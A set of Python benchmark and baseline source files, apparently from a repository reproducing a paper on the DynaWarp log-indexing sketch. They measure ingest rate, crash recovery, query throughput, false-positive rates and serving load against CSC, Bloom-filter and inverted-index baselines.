    point-in-time snapshot while the store is mid-ingest
  * live direct-query rate mid-ingest (exact host probe over sealed
    temporaries + the columnar tail buffer)
  * crash recovery: time for ``DynaWarpStore.open()`` to rehydrate the
    unfinished store, and the recovered fraction of ingested lines
"""
import os
import tempfile
import time

from .common import build_store, load_dataset, time_queries
from repro.logstore.datasets import present_id_queries

DS = "20k_generated"
STORE_KW = dict(batch_lines=64, mode="segmented",
                memory_limit_bytes=1 << 16, auto_compact=False)


def _ingest_rate(ds, table, label, **kw):
    from repro.logstore.store import DynaWarpStore
    s = DynaWarpStore(**STORE_KW, **kw)
    t0 = time.perf_counter()
    s.ingest(ds.lines)
    ingest_s = time.perf_counter() - t0
    s.finish()
    lps = round(ds.n_lines / max(ingest_s, 1e-9))
    table[f"{DS}/live_tail/{label}_lines_per_s"] = lps
    table[f"{DS}/live_tail/{label}_publish_s"] = round(s.stats.publish_s, 3)
    print(f"[live_tail] {label:22s} {lps:8d} lines/s  "
          f"(publish {s.stats.publish_s:5.2f}s of {ingest_s:5.2f}s)",
          flush=True)
    s.close()
    return lps


def run(results: dict):
    table: dict = {}
    ds = load_dataset(DS)
    queries = present_id_queries(ds, 29, 20)

    with tempfile.TemporaryDirectory() as tmp:
        _ingest_rate(ds, table, "ram_segmented")
        _ingest_rate(ds, table, "durable_per_spill",
                     path=os.path.join(tmp, "per_spill"))
        _ingest_rate(ds, table, "durable_finish_only",
                     path=os.path.join(tmp, "finish_only"),
                     publish_per_spill=False)

        # mid-ingest store: half the stream in, writer still open
        from repro.logstore.store import DynaWarpStore
        live_path = os.path.join(tmp, "live")
        s = DynaWarpStore(**STORE_KW, path=live_path)
        half = ds.n_lines // 2
        s.ingest(ds.lines[:half])

        t0, n = time.perf_counter(), 0
        while time.perf_counter() - t0 < 0.5:
            s.snapshot()
            n += 1
        snap_ms = 1e3 * (time.perf_counter() - t0) / n
        table[f"{DS}/live_tail/snapshot_capture_ms"] = round(snap_ms, 3)

        snap = s.snapshot()
        qps_snap = time_queries(snap.query_term, queries)
        qps_live = time_queries(s.query_term, queries)
        table[f"{DS}/live_tail/snapshot_qps"] = round(qps_snap, 1)
        table[f"{DS}/live_tail/live_direct_qps"] = round(qps_live, 1)
        print(f"[live_tail] snapshot capture {snap_ms:.2f} ms, "
              f"snapshot {qps_snap:.0f} q/s (over {snap.n_lines} lines), "
              f"live direct {qps_live:.0f} q/s", flush=True)

        # crash now: recovery latency + recovered fraction
        published = int(s.batch_start[s._covered_batches])
        s.blobs.close()
        del s
        t0 = time.perf_counter()
        re = DynaWarpStore.open(live_path)
        open_s = time.perf_counter() - t0
        table[f"{DS}/live_tail/recover_open_ms"] = round(1e3 * open_s, 1)
        table[f"{DS}/live_tail/recovered_lines"] = re._n_lines
        table[f"{DS}/live_tail/recovered_frac"] = round(re._n_lines / half, 4)
        assert re._n_lines == published
        print(f"[live_tail] crash at {half} lines -> open() recovered "
              f"{re._n_lines} ({100*re._n_lines/half:.1f}%) in "
              f"{1e3*open_s:.0f} ms", flush=True)
        re.close()

    # sanity anchor: the finished durable store answers like the scan oracle
    scan = build_store("scan", ds)
    table[f"{DS}/live_tail/scan_qps"] = round(
        time_queries(scan.query_term, queries), 1)
    results["live_tail"] = table
