"""Shared benchmark plumbing: datasets, stores, timing."""
from __future__ import annotations

import time
from dataclasses import dataclass

import numpy as np

from repro.logstore.datasets import (LogDataset, extracted_term_queries,
                                     generate_dataset, id_queries,
                                     ip_queries, present_id_queries)
from repro.logstore.store import ALL_STORES

# laptop-scale stand-ins for the paper's 1M/5M datasets (Table 2):
# statistically identical generator, smaller line counts so the whole
# suite runs in minutes on 1 CPU core.
DATASETS = {
    "20k_generated": dict(n_lines=20_000, n_sources=48, seed=1),
    "60k_generated": dict(n_lines=60_000, n_sources=160, seed=2),
}


def load_dataset(name: str) -> LogDataset:
    return generate_dataset(name, **DATASETS[name])


_DW_BITS: dict = {}  # dataset -> DynaWarp sketch bits (sizes CSC, §5.1.3)


def build_store(name: str, ds: LogDataset, **kw):
    if name == "csc" and "m_bits" not in kw and ds.name in _DW_BITS:
        # paper protocol: CSC sized at the next power of two above the
        # DynaWarp sketch
        bits = _DW_BITS[ds.name]
        kw["m_bits"] = 1 << max(int(bits) - 1, 6).bit_length()
    store = ALL_STORES[name](batch_lines=64, **kw)
    store.ingest(ds.lines)
    store.finish()
    if name == "dynawarp":
        _DW_BITS[ds.name] = store.stats.index_bytes * 8
    return store


def time_queries(fn, queries, *, min_time_s: float = 0.5):
    """Paper protocol: warm-up + timed iterations; returns queries/sec."""
    for q in queries[:3]:
        fn(q)
    n, t0 = 0, time.perf_counter()
    while time.perf_counter() - t0 < min_time_s:
        fn(queries[n % len(queries)])
        n += 1
    return n / (time.perf_counter() - t0)


QUERY_SCENARIOS = {
    "term(ID)": lambda ds, s: (id_queries(11, 20), s.query_term),
    "contains(ID)": lambda ds, s: (
        [q[2:14] for q in present_id_queries(ds, 13, 20)],
        s.query_contains),
    "term(IP)": lambda ds, s: (ip_queries(17, 20), s.query_term),
    # partial IPs ACROSS token borders: low-selectivity numeric n-grams —
    # the paper's worst case for sketches (Table 3 contains(IP))
    "contains(IP)": lambda ds, s: (
        [q[2:-1] for q in ip_queries(23, 10)], s.query_contains),
    "term(extracted)": lambda ds, s: (
        extracted_term_queries(ds, 19, 20), s.query_term),
}
