"""Sharded-retrieval smoke (CI gate): a segmented corpus queried through
the ShardedQueryEngine on whatever mesh is visible (CI forces 8 host
devices via ``XLA_FLAGS=--xla_force_host_platform_device_count=8``),
checked bit-identically against the single-device engine and the scan
baseline.

Asserts the PR-3 invariants end to end — waves fan out over mesh shards
through one shard_map per level-layout bucket, candidate extraction
happens on device, per-shard segment buffers upload exactly once and
survive compaction — and prints one JSON object (same flat shape as the
other benchmark tables).

Run via ``make bench-smoke-sharded`` or ``python -m benchmarks.sharded_smoke``.
"""
import json
import time

import numpy as np

import jax

from repro.logstore.datasets import (generate_dataset, id_queries,
                                     present_id_queries)
from repro.logstore.store import DynaWarpStore, ScanStore

N_LINES = 3000


def main() -> dict:
    ds = generate_dataset("shardsmoke", n_lines=N_LINES, n_sources=24,
                          seed=13)
    n_dev = len(jax.devices())

    dw = DynaWarpStore(batch_lines=64, mode="segmented",
                       memory_limit_bytes=1 << 15, auto_compact=False,
                       shard_axes=("data",))
    plain = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 15, auto_compact=False)
    scan = ScanStore(batch_lines=64)
    for s in (dw, plain, scan):
        s.ingest(ds.lines)
        s.finish()

    eng = dw.engine
    assert type(eng).__name__ == "ShardedQueryEngine"
    assert eng.n_shards == n_dev
    assert eng._extract_on_device, "batched waves must extract on device"
    assert len(dw.segments) > 1, "smoke corpus must spill into segments"

    queries = (present_id_queries(ds, 3, 8) + id_queries(5, 4)
               + ["info", "gc", "connection"])
    wave = dw.query_term_batch(queries)          # compiles the buckets
    for t, r, p in zip(queries, wave, plain.query_term_batch(queries)):
        truth = scan.query_term(t).matches
        assert r.matches == truth == p.matches, t
    assert eng.upload_count == len(eng._plane_segs), \
        "per-shard buffers must upload exactly once"

    t0 = time.perf_counter()
    waves = 0
    while time.perf_counter() - t0 < 0.5:
        dw.candidates_term_batch(queries)
        waves += 1
    qps = waves * len(queries) / (time.perf_counter() - t0)
    assert eng.upload_count == len(eng._plane_segs), \
        "repeated waves must not re-upload"

    merges = dw.compact(fanout=2)
    for t, r in zip(queries, dw.query_term_batch(queries)):
        assert r.matches == scan.query_term(t).matches, t
    assert merges > 0 and dw.engine.upload_count <= merges, \
        "compaction must re-upload merged segments only"

    out = {
        "sharded_smoke/devices": n_dev,
        "sharded_smoke/shards": eng.n_shards,
        "sharded_smoke/segments_pre_compact": len(eng.segments),
        "sharded_smoke/layout_buckets": len(eng._buckets),
        "sharded_smoke/compaction_merges": merges,
        "sharded_smoke/queries_checked": len(queries),
        "sharded_smoke/sharded_q_per_s": round(qps, 2),
    }
    print(json.dumps(out, indent=2))
    print(f"[smoke] OK: sharded retrieval over {n_dev} device(s) "
          f"bit-identical to scan across {len(queries)} queries "
          f"({qps:,.0f} q/s, uploads cached through compaction)",
          flush=True)
    return out


if __name__ == "__main__":
    main()
