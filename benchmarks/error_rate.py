"""§5.2 error rates: false-positive batches / total batches, DynaWarp vs
CSC vs Bloom, on the term(ID) and term(IP) scenarios (the paper's
4-orders-of-magnitude claim lives here)."""
import numpy as np

from .common import build_store, load_dataset
from repro.logstore.datasets import id_queries, ip_queries


def run(results: dict):
    table = {}
    ds = load_dataset("60k_generated")
    stores = {n: build_store(n, ds) for n in ("dynawarp", "csc", "bloom")}
    scenarios = {"term(ID)": id_queries(23, 60),
                 "term(IP)": ip_queries(29, 60)}
    for scen, queries in scenarios.items():
        for sname, s in stores.items():
            rates = [s.query_term(q).error_rate for q in queries]
            mean = float(np.mean(rates))
            table[f"{scen}/{sname}"] = mean
            print(f"[error] {scen:10s} {sname:9s} error rate "
                  f"{mean:.3e}", flush=True)
        dw, csc = table[f"{scen}/dynawarp"], table[f"{scen}/csc"]
        if dw > 0:
            print(f"[error] {scen}: CSC/DynaWarp fp ratio "
                  f"{csc/dw:.1f}x", flush=True)
        table[f"{scen}/csc_over_dynawarp"] = (csc / dw) if dw > 0 \
            else float("inf") if csc > 0 else 1.0
    results["error_rate"] = table
