"""Beyond-paper: device-side batched sketch probing.

The paper evaluates single-threaded Java queries.  The TPU-native rethink
batches Q query tokens across S segments: throughput here is probes/sec
of the jnp oracle vs the Pallas kernel (interpret mode on CPU — on TPU
the same call compiles natively; numbers are architecture-shape evidence,
not TPU wall clock)."""
import time

import numpy as np

import jax
import jax.numpy as jnp


def run(results: dict):
    from repro.core.batch_builder import build_sealed
    from repro.core.immutable_sketch import build_immutable
    from repro.core.mphf import build_mphf
    from repro.kernels import mphf_probe

    rng = np.random.default_rng(0)
    n_tokens = 200_000
    fps = rng.integers(0, 2**32, n_tokens, dtype=np.uint64).astype(np.uint32)
    keys = np.unique(fps)
    mphf = build_mphf(keys)

    q = rng.integers(0, 2**32, 16384, dtype=np.uint64).astype(np.uint32)
    qj = jnp.asarray(q)

    # jnp oracle probe (jit)
    probe_jnp = jax.jit(lambda f: mphf.lookup_jnp(f))
    probe_jnp(qj)[0].block_until_ready()
    t0 = time.perf_counter()
    iters = 20
    for _ in range(iters):
        probe_jnp(qj)[0].block_until_ready()
    jnp_rate = iters * len(q) / (time.perf_counter() - t0)

    # numpy host probe (the "paper-faithful" single-core analogue)
    mphf.lookup_np(q[:2048])
    t0 = time.perf_counter()
    for _ in range(5):
        mphf.lookup_np(q)
    np_rate = 5 * len(q) / (time.perf_counter() - t0)

    # lookup_np on construction keys: every probe resolves, so the
    # vectorized residual-word rank (`_rank_np`) dominates — the
    # rank-heavy row of the host path
    present = keys[rng.integers(0, len(keys), 16384)]
    mphf.lookup_np(present[:2048])
    t0 = time.perf_counter()
    for _ in range(5):
        mphf.lookup_np(present)
    rank_rate = 5 * len(present) / (time.perf_counter() - t0)

    # bitmap_extract: device candidate compaction (bitmap -> ids) vs the
    # old host np.unpackbits expansion, bitmaps/s over a (Q, W) wave.
    # AND-query-like density (~6% of batches hit) and max_hits sized from
    # the wave's max popcount, exactly as the engine does — both sides
    # decode every hit.
    from repro.kernels import bitmap_extract
    eq, ew = 256, 64
    bm = rng.integers(0, 2**32, (eq, ew), dtype=np.uint64).astype(np.uint32)
    for _ in range(4):
        bm &= rng.integers(0, 2**32, (eq, ew), dtype=np.uint64) \
            .astype(np.uint32)
    max_pop = int(np.unpackbits(bm.view(np.uint8), axis=1).sum(axis=1).max())
    mh = 1 << (max(max_pop, 1) - 1).bit_length()
    bmj = jnp.asarray(bm)
    ext = jax.jit(lambda b: bitmap_extract(b, max_hits=mh, use_kernel=False)[0])
    ext(bmj).block_until_ready()
    t0 = time.perf_counter()
    for _ in range(iters):
        ext(bmj).block_until_ready()
    ext_rate = iters * eq / (time.perf_counter() - t0)

    def unpack_host(b):
        bits = np.unpackbits(b.view(np.uint8), axis=1, bitorder="little")
        return np.nonzero(bits)

    unpack_host(bm)
    t0 = time.perf_counter()
    for _ in range(5):
        unpack_host(bm)
    unpack_rate = 5 * eq / (time.perf_counter() - t0)

    results["probe_bench"] = dict(
        sketch_keys=int(len(keys)),
        mphf_bits_per_key=round(mphf.size_bits() / len(keys), 2),
        host_numpy_probes_per_s=round(np_rate),
        host_lookup_np_present_per_s=round(rank_rate),
        device_jnp_probes_per_s=round(jnp_rate),
        batched_speedup=round(jnp_rate / np_rate, 2),
        bitmap_extract_device_rows_per_s=round(ext_rate),
        bitmap_extract_host_unpackbits_rows_per_s=round(unpack_rate),
    )
    print(f"[probe] {len(keys)} keys, "
          f"{mphf.size_bits()/len(keys):.2f} bits/key | host "
          f"{np_rate:,.0f}/s (present {rank_rate:,.0f}/s) vs "
          f"batched-device {jnp_rate:,.0f}/s "
          f"({jnp_rate/np_rate:.1f}x)", flush=True)
    print(f"[probe] bitmap_extract ({eq}x{ew} words, max_hits {mh}): "
          f"device {ext_rate:,.0f} rows/s vs host unpackbits "
          f"{unpack_rate:,.0f} rows/s", flush=True)
