"""Open-loop serving load: coalesced waves vs per-query dispatch.

A pool of >= 8 client threads issues term queries on a fixed open-loop
schedule (exponential inter-arrivals — arrivals fire regardless of
completions, so queueing delay is part of every latency sample) against
two back ends over the SAME store and engine path:

  * ``per_query`` — the naive server: every request becomes its own
    engine dispatch (``query_fps_batch`` of one), workers draining a
    request queue.  This is what a store without a serving layer does.
  * ``waves`` — the ``core.serving.WaveScheduler``: requests coalesce
    into shape-bucketed waves under ``max_live_waves`` admission
    control, host-vs-device decided per wave by the cost model this
    run measures (``query_throughput.measure_dispatch_costs``).

Every completed answer is checked bit-identical to a ground-truth
engine wave; p50/p99 latency and q/s for both back ends land in a
``BENCH_serve.json`` row.  ``--smoke`` is the CI gate: it additionally
asserts the coalesced back end clears 3x the per-query q/s.

Run via ``python -m benchmarks.serve_load [--smoke]`` or through
``python -m benchmarks.run``.
"""
from __future__ import annotations

import argparse
import json
import os
import queue
import sys
import threading
import time

import numpy as np

from repro.core.serving import (CostModel, WaveScheduler, WaveTicket,
                                _as_fp)
from repro.core.tokenizer import term_query_tokens
from repro.logstore.datasets import (generate_dataset, id_queries,
                                     present_id_queries)
from repro.logstore.store import DynaWarpStore

from .query_throughput import measure_dispatch_costs

BENCH_OUT = "BENCH_serve.json"


class _PerQueryServer:
    """The baseline: a request queue drained by workers that issue ONE
    engine wave dispatch per query (``query_fps_batch`` of one — no
    coalescing, no scalar-host shortcut).  A single engine lock models
    the single accelerator both back ends share."""

    def __init__(self, engine, n_workers: int = 4):
        self.engine = engine
        self._lock = threading.Lock()
        self._q: queue.Queue = queue.Queue()
        self._workers = [threading.Thread(target=self._drain, daemon=True)
                         for _ in range(n_workers)]
        for w in self._workers:
            w.start()

    def submit(self, tokens, *, op: str = "and") -> WaveTicket:
        ticket = WaveTicket([_as_fp(t) for t in tokens], op)
        ticket.t_submit = time.monotonic()
        self._q.put(ticket)
        return ticket

    def _drain(self) -> None:
        while True:
            ticket = self._q.get()
            if ticket is None:
                return
            try:
                with self._lock:
                    res = self.engine.query_fps_batch(
                        [ticket.fps], op=ticket.op)[0]
            except BaseException as e:   # pragma: no cover - bench guard
                ticket._fail(e, -1)
            else:
                ticket._complete(res, -1, "device")

    def close(self) -> None:
        for _ in self._workers:
            self._q.put(None)
        for w in self._workers:
            w.join(timeout=60)


def _open_loop(submit, token_lists, *, clients: int, per_client: int,
               rate_qps: float, seed: int) -> dict:
    """Drive ``submit`` from ``clients`` open-loop threads; returns q/s
    + latency percentiles + every (query_index, result) for the
    bit-identity check."""
    t_start = time.monotonic() + 0.05
    collected: list[list] = [[] for _ in range(clients)]

    def client(ci: int) -> None:
        rng = np.random.default_rng(seed + ci)
        arrivals = t_start + np.cumsum(
            rng.exponential(1.0 / rate_qps, size=per_client))
        out = collected[ci]
        for at in arrivals:
            now = time.monotonic()
            if at > now:
                time.sleep(at - now)
            qi = int(rng.integers(len(token_lists)))
            out.append((at, qi, submit(token_lists[qi])))

    threads = [threading.Thread(target=client, args=(ci,), daemon=True)
               for ci in range(clients)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(timeout=600)
    flat = [x for per in collected for x in per]
    results = [(qi, t.wait(600)) for _, qi, t in flat]
    lat_ms = np.asarray([(t.t_done - at) * 1e3 for at, _, t in flat])
    first = min(at for at, _, _ in flat)
    last = max(t.t_done for _, _, t in flat)
    return {
        "completed": len(flat),
        "qps": round(len(flat) / max(last - first, 1e-9), 2),
        "p50_ms": round(float(np.percentile(lat_ms, 50)), 3),
        "p99_ms": round(float(np.percentile(lat_ms, 99)), 3),
        "_results": results,
    }


def _check_identical(results, truth) -> bool:
    return all(np.array_equal(np.asarray(r, np.int64), truth[qi])
               for qi, r in results)


def _append_row(row: dict, path: str = BENCH_OUT) -> None:
    rows = []
    if os.path.exists(path):
        with open(path) as f:
            rows = json.load(f)
    rows.append(row)
    with open(path, "w") as f:
        json.dump(rows, f, indent=1)


def run_load(*, n_lines: int, clients: int, per_client: int,
             rate_qps: float, replicas: int, max_live_waves: int,
             flush_deadline_s: float, seed: int = 0,
             bucket_sizes=(8, 64), mode: str = "full") -> dict:
    ds = generate_dataset("serve_load", n_lines=n_lines, n_sources=24,
                          seed=11)
    store = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 15)
    store.ingest(ds.lines)
    store.finish()
    engine = store.engine

    terms = present_id_queries(ds, 5, 12) + id_queries(7, 4)
    token_lists = [term_query_tokens(t) for t in terms]
    truth = [np.asarray(r, np.int64)
             for r in engine.query_batch(token_lists, op="and")]

    print(f"[serve_load] measuring dispatch cost model "
          f"({len(engine.segments)} segments)...", flush=True)
    model = CostModel.from_dict(measure_dispatch_costs(
        engine, token_lists, buckets=bucket_sizes, reps=2,
        host_samples=32))

    # Pre-compile every wave shape the scheduler can form from this
    # query mix — compile cost is a one-time artifact (huge under CPU
    # interpret) and must not sit inside the timed window.  Warm with
    # the MIXED mix, not one replicated query: downstream shapes (e.g.
    # bitmap extraction width) depend on the wave's hit profile.
    fps_all = [[_as_fp(t) for t in tl] for tl in token_lists]

    def _warm(eng):
        for b in bucket_sizes:
            eng.query_fps_batch((fps_all * ((b // len(fps_all)) + 1))[:b],
                                op="and")

    _warm(engine)

    # --- baseline: per-query dispatch ------------------------------------
    direct = _PerQueryServer(engine, n_workers=min(clients, 4))
    try:
        # warm every (Q=1, T) jit entry the load can hit
        for t_len in sorted({len(tl) for tl in token_lists}):
            tl = next(x for x in token_lists if len(x) == t_len)
            direct.submit(tl).wait(120)
        base = _open_loop(direct.submit, token_lists, clients=clients,
                          per_client=per_client, rate_qps=rate_qps,
                          seed=seed)
    finally:
        direct.close()
    base_ok = _check_identical(base.pop("_results"), truth)
    print(f"[serve_load] per_query  {base['qps']:10.1f} q/s   "
          f"p50 {base['p50_ms']:8.2f}ms  p99 {base['p99_ms']:8.2f}ms  "
          f"identical={base_ok}", flush=True)

    # --- coalesced waves -------------------------------------------------
    replica_engines = [engine] + [engine.clone()
                                  for _ in range(replicas - 1)]
    for rep in replica_engines[1:]:      # clones own separate jit caches
        _warm(rep)
    sched = WaveScheduler(replica_engines, bucket_sizes=bucket_sizes,
                          flush_deadline_s=flush_deadline_s,
                          max_live_waves=max_live_waves,
                          cost_model=model)
    try:
        waves = _open_loop(sched.submit, token_lists, clients=clients,
                           per_client=per_client, rate_qps=rate_qps,
                           seed=seed)
        stats = sched.stats()
    finally:
        sched.close()
    waves_ok = _check_identical(waves.pop("_results"), truth)
    speedup = waves["qps"] / max(base["qps"], 1e-9)
    print(f"[serve_load] waves      {waves['qps']:10.1f} q/s   "
          f"p50 {waves['p50_ms']:8.2f}ms  p99 {waves['p99_ms']:8.2f}ms  "
          f"identical={waves_ok}  ({speedup:.1f}x, {stats.waves} waves, "
          f"{stats.host_waves} host / {stats.device_waves} device, "
          f"max wave {stats.max_wave})", flush=True)

    row = {
        "mode": mode,
        "lines": n_lines,
        "segments": len(engine.segments),
        "clients": clients,
        "per_client": per_client,
        "offered_qps": round(clients * rate_qps, 1),
        "replicas": replicas,
        "wave_buckets": list(bucket_sizes),
        "max_live_waves": max_live_waves,
        "flush_deadline_ms": round(flush_deadline_s * 1e3, 3),
        "cost_model": model.to_dict(),
        "per_query": base,
        "waves": waves,
        "waves_formed": stats.waves,
        "host_waves": stats.host_waves,
        "device_waves": stats.device_waves,
        "max_wave": stats.max_wave,
        "speedup": round(speedup, 2),
        "identical": bool(base_ok and waves_ok),
    }
    _append_row(row)
    print(f"[serve_load] row appended -> {BENCH_OUT}", flush=True)
    assert base_ok and waves_ok, "served results diverged from engine"
    assert clients >= 8, "open-loop pool must have >= 8 clients"
    assert speedup >= 3.0, \
        f"coalesced waves only {speedup:.2f}x per-query dispatch (< 3x)"
    return row


def main(argv=None) -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--smoke", action="store_true",
                    help="CI gate: small corpus, asserts >= 3x")
    ap.add_argument("--lines", type=int, default=12_000)
    ap.add_argument("--clients", type=int, default=16)
    ap.add_argument("--per-client", type=int, default=40)
    ap.add_argument("--rate", type=float, default=1000.0,
                    help="per-client offered load (q/s); keep it above "
                         "both back ends' capacity so the measurement "
                         "is capacity, not the arrival schedule")
    ap.add_argument("--replicas", type=int, default=2)
    ap.add_argument("--max-live-waves", type=int, default=2)
    ap.add_argument("--flush-deadline-ms", type=float, default=2.0)
    args = ap.parse_args(argv)
    kw = dict(n_lines=args.lines, clients=args.clients,
              per_client=args.per_client, rate_qps=args.rate,
              replicas=args.replicas, max_live_waves=args.max_live_waves,
              flush_deadline_s=args.flush_deadline_ms / 1e3)
    if args.smoke:
        # enough queries that a noisy CI neighbour cannot push the
        # speedup ratio across the 3x gate; offered load saturates both
        # back ends so the ratio compares capacity, not arrival rate
        kw.update(n_lines=3_000, clients=8, per_client=50,
                  rate_qps=1000.0, mode="smoke")
    row = run_load(**kw)
    print(f"[serve_load] OK: {row['speedup']}x q/s over per-query "
          f"dispatch, bit-identical", flush=True)
    return 0


def run(results: dict) -> None:
    """benchmarks.run entry: one smoke-scale row."""
    results["serve_load"] = run_load(
        n_lines=6_000, clients=8, per_client=30, rate_qps=1000.0,
        replicas=2, max_live_waves=2, flush_deadline_s=0.002,
        mode="bench")


if __name__ == "__main__":
    sys.exit(main())
