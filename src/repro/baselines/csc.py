"""Circular Shift and Coalesce (CSC) membership sketch — Li et al.,
SIGMOD'21 (the paper's [19]); the sketch baseline in §2.2/§5.

For each of ``k`` hash functions, a token's anchor position
``h(t) mod m`` is shifted by the partition ``g(S) = S mod p`` of each set
it belongs to, and that bit is set.  A query gathers the ``p`` bits after
each anchor, ANDs the partition masks across the k anchors (and across
``j`` independent repetitions), then expands surviving partitions to the
union of sets they contain.  ``m`` is a power of two so the modulo is a
mask, exactly as in the paper's evaluation setup (§5.1.3).
"""
from __future__ import annotations

from dataclasses import dataclass

import numpy as np

import jax.numpy as jnp

from ..core.hashing import np_seeded_hash32

_HASH_SEED = 0xC5C0FFEE


def _seed(rep: int, k: int) -> int:
    return (_HASH_SEED + 0x9E3779B9 * (rep * 131 + k)) & 0xFFFFFFFF


@dataclass
class CSCSketch:
    bits: np.ndarray        # (j, m/32) uint32 — one bit plane per repetition
    m: int                  # power-of-two bit-vector size
    k: int                  # hash functions per repetition
    p: int                  # partitions
    j: int                  # repetitions
    n_sets: int

    def size_bits(self) -> int:
        return self.bits.size * 32

    # ------------------------------------------------------------------ build
    @classmethod
    def build(cls, *, m_bits: int, k: int = 4, p: int = 64, j: int = 1,
              n_sets: int = 0) -> "CSCSketch":
        m = 1 << int(np.ceil(np.log2(max(m_bits, 64))))
        return cls(bits=np.zeros((j, m >> 5), dtype=np.uint32),
                   m=m, k=k, p=p, j=j, n_sets=n_sets)

    def insert_batch(self, fps: np.ndarray, set_ids: np.ndarray) -> None:
        """Vectorized insert of parallel (token fingerprint, set id) pairs."""
        fps = np.asarray(fps, dtype=np.uint32)
        set_ids = np.asarray(set_ids, dtype=np.int64)
        self.n_sets = max(self.n_sets, int(set_ids.max(initial=-1)) + 1)
        g = (set_ids % self.p).astype(np.int64)
        mask = np.uint32(self.m - 1)
        for rep in range(self.j):
            for hk in range(self.k):
                anchor = np_seeded_hash32(fps, _seed(rep, hk)) & mask
                pos = (anchor.astype(np.int64) + g) & (self.m - 1)
                np.bitwise_or.at(self.bits[rep], pos >> 5,
                                 np.uint32(1) << (pos & 31).astype(np.uint32))

    # ------------------------------------------------------------------ query
    def partition_mask(self, fps: np.ndarray) -> np.ndarray:
        """(Q, p) bool — surviving partitions per query token (AND across
        k anchors and j repetitions)."""
        fps = np.asarray(fps, dtype=np.uint32)
        mask = np.uint32(self.m - 1)
        out = np.ones((fps.size, self.p), dtype=bool)
        for rep in range(self.j):
            for hk in range(self.k):
                anchor = np_seeded_hash32(fps, _seed(rep, hk)) & mask
                pos = (anchor[:, None].astype(np.int64)
                       + np.arange(self.p)[None, :]) & (self.m - 1)
                bit = (self.bits[rep][pos >> 5]
                       >> (pos & 31).astype(np.uint32)) & 1
                out &= bit.astype(bool)
        return out

    def query(self, fp: int) -> np.ndarray:
        """Membership set M_t: all set ids whose partition survived."""
        parts = self.partition_mask(np.asarray([fp], np.uint32))[0]
        if self.n_sets == 0:
            return np.empty(0, np.int64)
        sets = np.arange(self.n_sets, dtype=np.int64)
        return sets[parts[sets % self.p]]

    def query_all_tokens(self, fps: np.ndarray) -> np.ndarray:
        """AND-combined membership across tokens (n-gram intersection mode
        used in §5.2 to lower CSC's error rate)."""
        if len(fps) == 0:
            return np.empty(0, np.int64)
        parts = self.partition_mask(np.asarray(fps, np.uint32))
        combined = parts.all(axis=0)
        sets = np.arange(self.n_sets, dtype=np.int64)
        return sets[combined[sets % self.p]]

    # ------------------------------------------------------------------ device
    def device_arrays(self) -> dict:
        return dict(bits=jnp.asarray(self.bits))

    def partition_mask_jnp(self, fps, arrs=None):
        """jnp oracle for the csc_probe Pallas kernel."""
        from ..core.hashing import seeded_hash32
        if arrs is None:
            arrs = self.device_arrays()
        bits = arrs["bits"]
        fps = fps.astype(jnp.uint32)
        mask = jnp.uint32(self.m - 1)
        out = jnp.ones((fps.shape[0], self.p), dtype=jnp.bool_)
        for rep in range(self.j):
            for hk in range(self.k):
                anchor = seeded_hash32(fps, _seed(rep, hk)) & mask
                pos = (anchor[:, None].astype(jnp.int32)
                       + jnp.arange(self.p, dtype=jnp.int32)[None, :]) \
                    & jnp.int32(self.m - 1)
                w = bits[rep][pos >> 5]
                bit = (w >> (pos & 31).astype(jnp.uint32)) & 1
                out = out & bit.astype(jnp.bool_)
        return out
