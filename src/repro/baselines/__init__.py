"""Baselines the paper compares against: inverted index (Lucene analogue),
CSC sketch (Li et al. SIGMOD'21), per-batch Bloom filters, linear scan
(the scan store lives in logstore.store)."""
from .bloom import BloomPerBatch
from .csc import CSCSketch
from .inverted import InvertedIndex

__all__ = ["BloomPerBatch", "CSCSketch", "InvertedIndex"]
