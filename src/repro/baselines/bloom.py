"""Per-batch Bloom filter baseline (§2.2, the paper's [3]/[48] family).

One Bloom filter per set/batch; a query probes every filter — the paper's
point about linear growth in both storage access and query cost with the
number of sets.  Included as the third sketch baseline.
"""
from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..core.hashing import np_seeded_hash32

_SEED = 0xB100F


@dataclass
class BloomPerBatch:
    bits: np.ndarray     # (n_sets, m/32) uint32
    m: int
    k: int
    n_sets: int

    @classmethod
    def build(cls, n_sets: int, m_bits: int, k: int = 4) -> "BloomPerBatch":
        m = max(64, ((m_bits + 31) // 32) * 32)
        return cls(bits=np.zeros((n_sets, m >> 5), dtype=np.uint32),
                   m=m, k=k, n_sets=n_sets)

    def insert_batch(self, fps: np.ndarray, set_id: int) -> None:
        fps = np.asarray(fps, dtype=np.uint32)
        for hk in range(self.k):
            pos = (np_seeded_hash32(fps, _SEED + hk * 0x9E3779B9)
                   % np.uint32(self.m)).astype(np.int64)
            np.bitwise_or.at(self.bits[set_id], pos >> 5,
                             np.uint32(1) << (pos & 31).astype(np.uint32))

    def query(self, fp: int) -> np.ndarray:
        """Probe all n_sets filters (the linear cost the paper criticizes)."""
        hit = np.ones(self.n_sets, dtype=bool)
        for hk in range(self.k):
            pos = int(np_seeded_hash32(np.asarray([fp], np.uint32),
                                       _SEED + hk * 0x9E3779B9)[0]) % self.m
            hit &= ((self.bits[:, pos >> 5] >> np.uint32(pos & 31)) & 1
                    ).astype(bool)
        return np.nonzero(hit)[0].astype(np.int64)

    def query_all_tokens(self, fps) -> np.ndarray:
        hit = np.ones(self.n_sets, dtype=bool)
        for fp in fps:
            h = np.zeros(self.n_sets, dtype=bool)
            h[self.query(int(fp))] = True
            hit &= h
        return np.nonzero(hit)[0].astype(np.int64)

    def size_bits(self) -> int:
        return self.bits.size * 32
