"""Inverted index baseline (the Lucene analogue from §2.1/§5).

A lexicon of *full original tokens* (sorted, front-coded) + per-term
posting lists (delta + varint encoded).  Term queries are exact lexicon
lookups; ``contains`` queries linearly scan the lexicon for substring
matches and union the posting lists — precisely the capability/cost
trade-off the paper describes for Lucene: no false positives, large
storage (the full token bytes are kept), slow dictionary scans.
"""
from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np


def _varint_encode(arr: np.ndarray, out: bytearray) -> None:
    for v in arr:
        v = int(v)
        while v >= 0x80:
            out.append((v & 0x7F) | 0x80)
            v >>= 7
        out.append(v)


def _varint_decode(buf: memoryview, pos: int, count: int
                   ) -> tuple[np.ndarray, int]:
    out = np.empty(count, dtype=np.int64)
    for i in range(count):
        shift = 0
        v = 0
        while True:
